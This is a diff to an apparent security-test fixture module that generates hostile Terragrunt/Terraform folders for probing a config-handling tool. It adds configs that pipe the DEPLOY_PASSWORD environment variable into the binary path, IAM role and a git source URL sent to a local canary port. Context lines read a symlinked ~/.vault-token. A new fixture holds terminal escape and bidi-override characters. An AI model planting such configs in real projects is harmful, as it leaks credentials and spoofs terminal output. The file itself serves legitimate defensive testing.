@@ -1,4 +1,5 @@
 """The hostile folders: name -> function (folder, port of the canary) that fills the folder in."""
+import json
 import os
 
 ALL, LEFT = {}, []
@@ -276,6 +277,21 @@ for kind, expression in {"tfvars": 'read_tfvars_file("%s/.vault-token")', "confi
                          "file": 'file("%s/.vault-token")', "link": 'read_tfvars_file("link.json")'}.items():
     unit("taint-" + kind, {"terragrunt.hcl": "locals {\n x = urlencode(jsonencode(%s))\n}\n" % expression.replace("%s", "${get_env(\"HOME\")}") + PROVIDER},
          lambda folder: os.symlink("../home/.vault-token", os.path.join(folder, "link.json")))
+
+
+PASSWORD = '${get_env("DEPLOY_PASSWORD")}'
+unit("secret-program", {"terragrunt.hcl": 'terraform_binary = "%s"\n' % PASSWORD})
+unit("secret-version", {"terragrunt.hcl": 'terragrunt_version_constraint = "%s"\nterraform_version_constraint = "%s"\n' % (PASSWORD, PASSWORD)})
+unit("secret-role", {"terragrunt.hcl": 'iam_role = "%s"\niam_assume_role_session_name = "%s"\n' % (PASSWORD, PASSWORD)})
+unit("secret-source", {"terragrunt.hcl": 'terraform {\n source = "git::https://127.0.0.1:PORT/%s"\n}\n' % PASSWORD})
+
+
+@folder_of("json-escapes")
+def json_escapes(folder, port):
+    """Names of a JSON file that become paths, and with them lines of a bundle."""
+    odd = "\u001b]0;x\u0007\u202e\u009b31m"
+    put(folder, "main.tf.json", json.dumps({"terraform": {"required_providers": {"aws": {"source": odd, "version": odd}}},
+                                            "provider": {"aws": {"region": odd, "profile": odd}}, "module": {odd: {"source": odd}}}))
 
 
 @folder_of("terragrunt-large")
